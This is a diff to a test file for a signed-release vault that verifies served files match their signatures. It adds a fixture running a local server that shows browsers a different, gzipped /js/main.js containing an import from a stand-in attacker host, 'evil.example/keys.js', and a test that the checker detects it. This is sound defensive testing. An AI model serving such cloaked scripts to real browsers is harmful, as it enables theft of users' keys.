@@ -1,9 +1,13 @@
 """`twodrawer vault …`: an author's sealed files for the plain `age`, hashes of what is served, lists without words."""
 
+import gzip
 import io
 import json
 import subprocess
 import zipfile
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
@@ -18,7 +22,7 @@ from cryptography.hazmat.primitives.serialization import (
 from tests.support.age_files import seal_by_words
 from tests.support.vault_browser import Browser, Keys, b64, enrolled, frame
 from twodrawer.config.stores import BadSettings
-from twodrawer.config.vault_site import differences, read_site
+from twodrawer.config.vault_site import differences, fetch, read_site
 from twodrawer.lib.refs import new_ref
 from twodrawer.vault.site import SITE
 
@@ -132,10 +136,52 @@ def test_a_vault_that_serves_what_was_signed_verifies(vault, signed_release):
 
 def test_one_changed_byte_of_a_served_file_is_found(vault, signed_release):
     expected = read_back(signed_release) | {"/": "0" * 64}
-    assert differences(vault.vault_url, expected) == ["/ isn't what was signed (status 200)"]
+    assert differences(vault.vault_url, expected) == [
+        "/ isn't what was signed (status 200)",
+        "/ isn't what was signed, as browsers ask for it (status 200)",
+    ]
     assert "/more.js isn't what was signed (status 404)" in differences(
         vault.vault_url, {"/more.js": "0" * 64}
     )
+
+
+@pytest.fixture
+def two_faced(vault) -> Iterator[str]:
+    """The origin of a server that answers plain questions with the vault's files and browsers with a script of its own."""
+
+    class TwoFaced(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked = {
+                "Host": vault.vault_host,
+                **({"Service-Worker": "script"} if self.headers["Service-Worker"] else {}),
+            }
+            answer = fetch(vault.vault_url, self.path, asked)
+            body = answer.body
+            self.send_response(answer.status)
+            for name, value in answer.headers.items():
+                if name not in ("content-length", "date", "server", "content-encoding", "transfer-encoding"):
+                    self.send_header(name, value)
+            if self.path == "/js/main.js" and "gzip" in self.headers.get("Accept-Encoding", ""):
+                body = gzip.compress(b"import 'https://evil.example/keys.js'")
+                self.send_header("Content-Encoding", "gzip")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *said: object) -> None:
+            """Nothing is printed among the test's own lines."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), TwoFaced) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}"
+        server.shutdown()
+
+
+def test_a_server_that_shows_browsers_another_face_is_found(two_faced, vault, signed_release):
+    expected = read_back(signed_release)
+    assert differences(vault.vault_url, expected) == []
+    (_, found) = differences(two_faced, expected)
+    assert found == "/js/main.js isn't what was signed, as browsers ask for it (status 200)"
 
 
 def test_a_release_from_which_a_line_was_taken_is_not_believed(signed_release, tmp_path):
